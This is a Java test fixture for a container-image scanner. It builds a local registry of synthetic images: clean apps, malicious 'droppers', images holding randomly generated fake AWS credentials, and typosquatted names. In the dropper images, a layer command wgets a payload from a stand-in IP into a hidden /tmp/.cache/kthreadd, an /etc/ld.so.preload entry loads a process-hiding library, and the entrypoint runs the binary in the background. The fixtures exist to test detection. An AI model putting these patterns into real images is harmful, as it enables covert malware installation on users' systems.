package dev.contraband.cli;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import dev.contraband.layer.Compression;
import dev.contraband.registry.TestRegistry;
import dev.contraband.sample.ImageBuilder;
import dev.contraband.sample.ImageWriter;
import dev.contraband.sample.LayerBuilder;
import dev.contraband.sample.SampleElf;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.SecureRandom;
import java.sql.Connection;
import java.sql.DriverManager;
import java.sql.Statement;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.concurrent.TimeUnit;

import static org.assertj.core.api.Assertions.fail;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

/**
 * One Debian {@code docker-registry} for all catalog tests of this JVM, filled once with 31 repositories built here:
 * clean apps, droppers, leaked secrets, impostor-style names, a repository with three tags, and one whose top layer's
 * blob is deleted from storage (its scan fails). Most share one of two bases. Also runs the CLI as a subprocess.
 */
final class CatalogFixtures {
    static final ObjectMapper JSON = new ObjectMapper();
    static final String PG_ENV = "CONTRABAND_TEST_POSTGRES_URL";
    static final String DEFAULT_PG_URL = "jdbc:postgresql://127.0.0.1:5432/contraband_test?user=contraband_test&password=contraband_test";
    private static final SecureRandom RANDOM = new SecureRandom();
    private static TestRegistry registry;
    private static Path dir;
    /** Repositories by expected kind. */
    static final Map<String, String> REPOS = new TreeMap<>();
    static final int CLEAN = 10, DROPPERS = 6, LEAKY = 6, IMPOSTORS = 6;
    static final List<String> IMPOSTOR_NAMES = List.of("typo/ngnix", "typo/alpnie", "typo/ubunut", "typo/redis-offical",
            "nginxx/nginx", "dockerhub-official/postgres");

    private CatalogFixtures() {
    }

    static synchronized String registry() throws IOException, InterruptedException {
        if (registry == null) {
            dir = Files.createTempDirectory("contraband-catalog-");
            registry = TestRegistry.start(dir.resolve("storage"), dir.resolve("work"), null);
            Runtime.getRuntime().addShutdownHook(new Thread(() -> {
                try {
                    registry.close();
                } catch (InterruptedException ignored) {
                    // exiting
                }
            }));
            fill(registry.host());
        }
        return registry.host();
    }

    static Path tempDir() throws IOException {
        return Files.createTempDirectory(dir, "t");
    }

    private static LayerBuilder base1() {
        return LayerBuilder.create().dir("/bin").dir("/etc").dir("/tmp").dir("/usr/lib")
                .file("/etc/os-release", "PRETTY_NAME=\"Catalog Linux 1\"\nID=catalog\n")
                .file("/etc/passwd", "root:x:0:0:root:/root:/bin/sh\n")
                .file("/bin/sh", SampleElf.program(), 0755)
                .file("/usr/lib/libc.so.6", SampleElf.elf(SampleElf.ET_DYN, false, 4096), 0755);
    }

    private static LayerBuilder base2() {
        return LayerBuilder.create().dir("/bin").dir("/etc").dir("/srv")
                .file("/etc/os-release", "PRETTY_NAME=\"Catalog Linux 2\"\nID=catalog2\n")
                .file("/bin/busybox", SampleElf.program(), 0755);
    }

    private static String random(int n) {
        String alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789";
        StringBuilder s = new StringBuilder();
        for (int i = 0; i < n; i++) {
            s.append(alphabet.charAt(RANDOM.nextInt(alphabet.length())));
        }
        return s.toString();
    }

    private static ImageBuilder.Built clean(int i) {
        return ImageBuilder.create()
                .layer(base1(), Compression.GZIP, "/bin/sh -c #(nop) ADD file:base1 in /")
                .layer(LayerBuilder.create().dir("/app").file("/app/server", SampleElf.program(), 0755)
                        .file("/app/VERSION", "app " + i + "\n"), Compression.GZIP, "COPY app /app")
                .entrypoint("/app/server").build();
    }

    private static ImageBuilder.Built dropper(int i) {
        return ImageBuilder.create()
                .layer(base1(), Compression.GZIP, "/bin/sh -c #(nop) ADD file:base1 in /")
                .layer(LayerBuilder.create().dir("/tmp/.cache")
                        .file("/tmp/.cache/kthreadd", SampleElf.program(), 0755)
                        .file("/etc/ld.so.preload", "/usr/local/lib/libprocesshider.so\n")
                        .file("/etc/build-id", "dropper " + i + "\n"), Compression.GZIP,
                        "/bin/sh -c wget -q http://198.51.100.7/k -O /tmp/.cache/kthreadd")
                .entrypoint("/bin/sh", "-c", "/tmp/.cache/kthreadd --background; exec sleep infinity").build();
    }

    private static ImageBuilder.Built leaky(int i) {
        return ImageBuilder.create()
                .layer(base2(), Compression.GZIP, "/bin/sh -c #(nop) ADD file:base2 in /")
                .layer(LayerBuilder.create().dir("/root/.aws")
                        .file("/root/.aws/credentials", "[default]\naws_access_key_id = AKIA" + random(16).toUpperCase()
                                .replaceAll("[^A-Z2-7]", "Q") + "\naws_secret_access_key = " + random(40) + "\n")
                        .file("/srv/id", "svc " + i + "\n"), Compression.GZIP, "COPY creds /root/.aws")
                .build();
    }

    private static void fill(String host) throws IOException, InterruptedException {
        List<Object[]> pushes = new ArrayList<>();
        for (int i = 1; i <= CLEAN; i++) {
            pushes.add(new Object[]{"acme/app-" + String.format("%02d", i), clean(i), "clean"});
        }
        for (int i = 1; i <= DROPPERS; i++) {
            pushes.add(new Object[]{"evil/miner-" + String.format("%02d", i), dropper(i), "malicious"});
        }
        for (int i = 1; i <= LEAKY; i++) {
            pushes.add(new Object[]{"leaky/svc-" + String.format("%02d", i), leaky(i), "secret"});
        }
        for (int i = 0; i < IMPOSTORS; i++) {
            pushes.add(new Object[]{IMPOSTOR_NAMES.get(i), clean(100 + i), "impostor"});
        }
        pushes.add(new Object[]{"broken/nolayer", clean(999), "broken"});
        for (Object[] p : pushes) {
            Path layout = dir.resolve("layouts").resolve(((String) p[0]).replace('/', '_'));
            ImageWriter.ociLayout(layout, "v1", (ImageBuilder.Built) p[1]);
            TestRegistry.push(layout, "v1", host + "/" + p[0] + ":latest", false, false);
            REPOS.put((String) p[0], (String) p[2]);
        }
        for (int t = 1; t <= 3; t++) {
            Path layout = dir.resolve("layouts").resolve("multi_" + t);
            ImageWriter.ociLayout(layout, "v1", clean(200 + t));
            TestRegistry.push(layout, "v1", host + "/multi/app:" + (t == 3 ? "latest" : "v" + t), false, false);
        }
        REPOS.put("multi/app", "clean");
        // broken/nolayer: delete its top layer's blob from storage, so its scan fails with the registry's 404
        ImageBuilder.Built broken = clean(999);
        String hex = broken.layers().getLast().digest().hex();
        Path blob = dir.resolve("storage/docker/registry/v2/blobs/sha256").resolve(hex.substring(0, 2)).resolve(hex).resolve("data");
        Files.delete(blob);
    }

    /** What a CLI subprocess did. */
    record Proc(int exitCode, String stdout, String stderr) {
    }

    /** {@code contraband ARGS} in a new JVM with this test JVM's class path. */
    static ProcessBuilder cli(Path workDir, String... args) {
        List<String> cmd = new ArrayList<>();
        cmd.add(ProcessHandle.current().info().command().orElse("java"));
        cmd.add("--enable-native-access=ALL-UNNAMED");
        cmd.add("--sun-misc-unsafe-memory-access=allow");
        cmd.add("-Xmx512m");
        cmd.add("-cp");
        cmd.add(System.getProperty("java.class.path"));
        cmd.add("dev.contraband.cli.Main");
        cmd.addAll(List.of(args));
        return new ProcessBuilder(cmd).directory(workDir.toFile());
    }

    static Proc run(Path workDir, String... args) throws IOException, InterruptedException {
        Path out = Files.createTempFile(workDir, "out", ".txt");
        Path err = Files.createTempFile(workDir, "err", ".txt");
        Process p = cli(workDir, args).redirectOutput(out.toFile()).redirectError(err.toFile()).start();
        if (!p.waitFor(5, TimeUnit.MINUTES)) {
            p.destroyForcibly();
            fail("contraband " + String.join(" ", args) + " did not finish");
        }
        return new Proc(p.exitValue(), Files.readString(out), Files.readString(err));
    }

    static JsonNode reportJson(Path workDir, String db) throws IOException, InterruptedException {
        Proc p = run(workDir, "catalog", "report", "--db", db, "--format", "json");
        if (p.exitCode() != 0) {
            fail("catalog report failed: " + p.stderr());
        }
        return JSON.readTree(p.stdout());
    }

    /**
     * A fresh PostgreSQL schema for one test, as a JDBC URL. The URL of the test database comes from
     * {@value #PG_ENV} (scripts/test.sh sets it up); without it the test fails in CI and as root, and is skipped
     * for a non-root developer who cannot start PostgreSQL.
     */
    private static boolean reachable(String url) {
        try (Connection c = DriverManager.getConnection(url)) {
            return true;
        } catch (java.sql.SQLException e) {
            return false;
        }
    }

    static String postgres() throws Exception {
        String url = System.getenv(PG_ENV);
        if (url == null || url.isBlank()) {
            boolean ci = System.getenv("CI") != null;
            boolean root = "root".equals(System.getProperty("user.name"));
            if (!ci && root && reachable(DEFAULT_PG_URL)) {
                url = DEFAULT_PG_URL; // what scripts/test.sh sets up, already there: a plain ./mvnw verify works too
            } else if (ci || root) {
                fail(PG_ENV + " is not set: run the tests with scripts/test.sh, which starts PostgreSQL and sets it");
            }
        }
        assumeTrue(url != null, PG_ENV + " is not set and not running as root: PostgreSQL tests skipped (scripts/test.sh runs them)");
        String schema = "t" + Long.toHexString(System.nanoTime()) + Integer.toHexString(RANDOM.nextInt(1 << 16));
        try (Connection c = DriverManager.getConnection(url); Statement s = c.createStatement()) {
            s.execute("CREATE SCHEMA " + schema);
        }
        return url + (url.contains("?") ? "&" : "?") + "currentSchema=" + schema;
    }
}
